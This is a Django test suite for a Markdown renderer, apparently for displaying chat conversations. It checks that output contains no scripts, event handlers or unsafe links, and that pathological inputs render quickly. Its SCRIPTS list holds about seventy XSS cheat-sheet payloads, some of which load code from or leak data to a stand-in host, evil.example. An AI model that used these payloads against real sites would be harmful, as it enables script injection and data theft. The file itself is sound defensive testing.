"""Any text is shown as Markdown and is harmless: no scripts, styles or downloads, and no slow rendering."""

from __future__ import annotations

import hashlib
import time
from html.parser import HTMLParser
from pathlib import Path

from django.test import SimpleTestCase
from django.utils.safestring import SafeString

from conversations.rendering import MAX_DELIMITERS, MAX_TEXT, TAGS, render_markdown

# The inputs of the usual XSS cheat sheets, in every Markdown construct.
SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?leak=1'>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<body onload=alert(1)><details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<form action=//evil.example><button formaction=javascript:alert(1)>x</button><input autofocus onfocus=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<video><source onerror=alert(1)></video><audio src=//evil.example>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE x>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](//evil.example)",
    "[x](/admin/logout/)",
    "[x](\\\\evil.example)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example"onmouseover=alert(1))',
    "[x](https://a.example 'a\" onmouseover=alert(1) b=\"')",
    '[x](https://a.example/"><script>alert(1)</script>)',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: https://a.example '\"><script>alert(1)</script>'\n\n[x]",
    "<javascript:alert(1)>",
    "<https://a.example/onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,AAAA)",
    '![x" onerror=alert(1)](https://evil.example/a.png)',
    "![<script>alert(1)</script>](https://evil.example/a.png)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "```python class=x onclick=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|--|:-:|\n| <img src=x onerror=alert(1)> | x |",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>\u2028alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
)
ALLOWED = {"href", "title", "rel", "target", "class", "start"}


class Strict(HTMLParser):
    """Rejects every tag, attribute and URL that is not expected."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        given = {name: value or "" for name, value in attrs}
        assert set(given) <= ALLOWED, given
        assert "class" not in given or not set("<>\"'") & set(given["class"])
        if tag == "a" and "href" in given:
            assert given["href"].lower().startswith(("http://", "https://", "mailto:")), given
        if tag == "a":
            assert given["rel"] == "noopener noreferrer nofollow" and given["target"] == "_blank"

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError("a declaration")

    def handle_pi(self, data: str) -> None:
        raise AssertionError("an instruction")


def assert_harmless(html: str) -> None:
    parser = Strict(convert_charrefs=True)
    parser.feed(html)
    parser.close()


class SafetyTest(SimpleTestCase):
    def test_no_text_becomes_anything_that_acts(self) -> None:
        for script in SCRIPTS:
            for text in (
                script,
                f"Hello {script} there",
                f"**{script}**",
                f"- a\n  - {script}\n",
                f"[{script}](https://a.example)",
            ):
                with self.subTest(text=text):
                    html = render_markdown(text)
                    self.assertIsInstance(html, SafeString)
                    assert_harmless(html)

    def test_the_judge_of_these_tests_finds_what_it_looks_for(self) -> None:
        for bad in (
            "<script>",
            "<p onclick=x>",
            "<a href='javascript:x' rel=x>",
            "<img src=x>",
            "<!-- x -->",
            "<p style=x>",
        ):
            with self.assertRaises((AssertionError, KeyError), msg=bad):
                assert_harmless(bad)

    def test_html_is_shown_as_it_was_typed(self) -> None:
        self.assertEqual(render_markdown("<b>no</b>"), "<p>&lt;b&gt;no&lt;/b&gt;</p>\n")

    def test_an_image_is_a_link_that_is_not_followed_by_itself(self) -> None:
        html = render_markdown("![A *cat*](https://example.org/cat.png)")
        self.assertIn('<a href="https://example.org/cat.png"', html)
        self.assertNotIn("<img", html)
        self.assertIn("A *cat*</a>", html)
        self.assertEqual(render_markdown("![](https://example.org/cat.png)").count("https://example.org/cat.png"), 2)
        self.assertEqual(render_markdown("[a ![b](https://b.example)](https://a.example)").count("<a "), 1)


class MarkdownTest(SimpleTestCase):
    def test_what_people_and_models_write(self) -> None:
        html = render_markdown("# Title\n\n1. **one**\n2. ~~two~~\n\n> quote\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n")
        for part in (
            "<h1>Title</h1>",
            "<strong>one</strong>",
            "<s>two</s>",
            "<blockquote>",
            '<td class="align-right">2',
        ):
            self.assertIn(part, html)

    def test_code_is_coloured_by_classes(self) -> None:
        html = render_markdown('```python\ndef f() -> str:\n    return "<b>"\n```')
        self.assertIn('<code class="language-python">', html)
        self.assertIn('<span class="k">def</span>', html)
        self.assertIn("&lt;b&gt;", html)
        self.assertIn("<code>x &lt; y\n</code>", render_markdown("```nolanguage<\nx < y\n```"))

    def test_mathematics_is_left_as_it_was_written(self) -> None:
        for text in (r"\(a_1 * b_1 * c\)", r"\[ \int_0^1 x \]", "$$a_1 < b_2$$"):
            kind = "inline" if text.startswith(r"\(") else "display"
            shown = f'<span class="math {kind}">{text.replace("<", "&lt;")}</span>'
            self.assertEqual(render_markdown(f"So {text}, *well*."), f"<p>So {shown}, <em>well</em>.</p>\n")
            self.assertIn(shown, render_markdown(f"1. So:\n\n   {text}\n\n> {text}"))
        lines = "\\[\nx\n- y\n= z\n+ [a](https://a.example)\n\\]"
        self.assertEqual(
            render_markdown(f"a\n{lines}\nb"), f'<p>a</p>\n<p><span class="math display">{lines}</span></p>\n<p>b</p>\n'
        )

    def test_addresses_are_links_without_the_punctuation_around_them(self) -> None:
        for text, address in (
            ("See https://a.example/b_c_d?e=f&g#h.", "https://a.example/b_c_d?e=f&g#h"),
            ("(https://a.example/b_(c))!", "https://a.example/b_(c)"),
            ("**https://a.example**, or", "https://a.example"),
            ("HTTP://a.example/ä", "HTTP://a.example/ä"),
        ):
            html = render_markdown(text)
            self.assertEqual(html.count("<a "), 1, html)
            self.assertIn(f">{address.replace('&', '&amp;')}</a>", html)
        for text in (
            "`https://a.example`",
            "ftp://a.example",
            "https://",
            "https://)",
            "xhttps://a.example",
            "www.a.example",
        ):
            self.assertNotIn("<a", render_markdown(text), text)
        self.assertEqual(render_markdown("[https://a.example](https://b.example)").count("<a "), 1)

    def test_tasks_have_boxes(self) -> None:
        html = render_markdown("- [ ] open\n- [x] *done*\n- [y] neither\n\n[ ] no list")
        self.assertEqual(html.count('<li class="task">'), 2)
        for shown in ("☐ open", "☑ <em>done</em>", "[y] neither", "[ ] no list"):
            self.assertIn(shown, html)

    def test_katex_is_what_npm_has(self) -> None:
        folder = Path(__file__).parents[1] / "static" / "vendor" / "katex"
        for line in (folder / "SHA256SUMS").read_text().splitlines():
            digest, _, name = line.partition("  ")
            self.assertEqual(hashlib.sha256((folder / name).read_bytes()).hexdigest(), digest, name)

    def test_prices_quoted_brackets_and_code_are_no_mathematics(self) -> None:
        for text in (
            *("$5 and $6", "$5-$6", "$$ is cheap, $$$ is not", "A ($$) and B ($$)", "$$\n\nx\n\n$$", "$$ a\n$$$ b"),
            *(
                r"quoted \[1\], \[sic\]",
                r"`\(x\)`",
                "```\n\\[\nx\n\\]\n```",
                r"\\(x\\)",
                r"\(open",
                "\\[\nopen",
                r"\(\)",
            ),
        ):
            self.assertNotIn("math", render_markdown(text), text)

    def test_the_empty_text(self) -> None:
        self.assertEqual(render_markdown(""), "")


class BoundTest(SimpleTestCase):
    def test_too_much_is_shown_plain(self) -> None:
        long = "word & " * (MAX_TEXT // 7 + 1)
        self.assertEqual(render_markdown(long), f"<pre>{long.replace('&', '&amp;')}</pre>")
        self.assertIn("<pre>", render_markdown("*a_" * (MAX_DELIMITERS // 2 + 1)))
        self.assertIn("<em>", render_markdown("*a*\n\n" * 3_000))
        # Of one paragraph, not of all that is around it.
        self.assertIn("<em>", render_markdown("*a*\n\n" + "*a_" * (MAX_DELIMITERS // 2 + 1)))
        self.assertIn("</code>", render_markdown(f"```c\n{'a[0] = *b;' * MAX_DELIMITERS}\n```"))

    def test_what_is_nested_too_deep_is_still_there(self) -> None:
        for sign in ("> ", "- ", "1. > "):
            for depth in range(1, 40):
                self.assertIn("kept", render_markdown(sign * depth + "kept"), (sign, depth))

    def test_what_makes_parsers_slow_costs_little(self) -> None:
        """Quadratic work on these inputs would take minutes; the bound is generous because machines are busy."""
        size = MAX_TEXT // 3
        blocks = {
            "brackets": "[" * size, "stars": "*a " * (size // 3), "quotes": "> " * (size // 2), "items": "- " * size,
            "ticks": "".join("`" * number + "a" for number in range(400)), "links": "[a](b" * (size // 5),
            "comments": "<!--" * (size // 4), "pipes": "|a" * (size // 2), "references": "[a]: x\n" * (size // 7),
            "just under": ("[" * (MAX_DELIMITERS - 1) + "\n\n") * (size // (MAX_DELIMITERS + 1)),
            "both under": ("*a_" * (MAX_DELIMITERS // 2 - 1) + "\n\n") * (size // (MAX_DELIMITERS * 2)),
            "scala": "```scala\n" + ("\\" * 400 + "\n" + "<" * 400 + "\n") * 20 + "```",
            "python": "```python\n" + '"""\n' * 4_900 + "```",
            "formulas": "\\[ a\n" * (size // 5), "dollars": "$$a" * (size // 3),
            "nested": "\n".join(" " * 2 * depth + "- a" for depth in range(300)),
        }  # fmt: skip
        for name, text in blocks.items():
            with self.subTest(name):
                began = time.process_time()
                assert_harmless(render_markdown(text[:size]))
                self.assertLess(time.process_time() - began, 10)
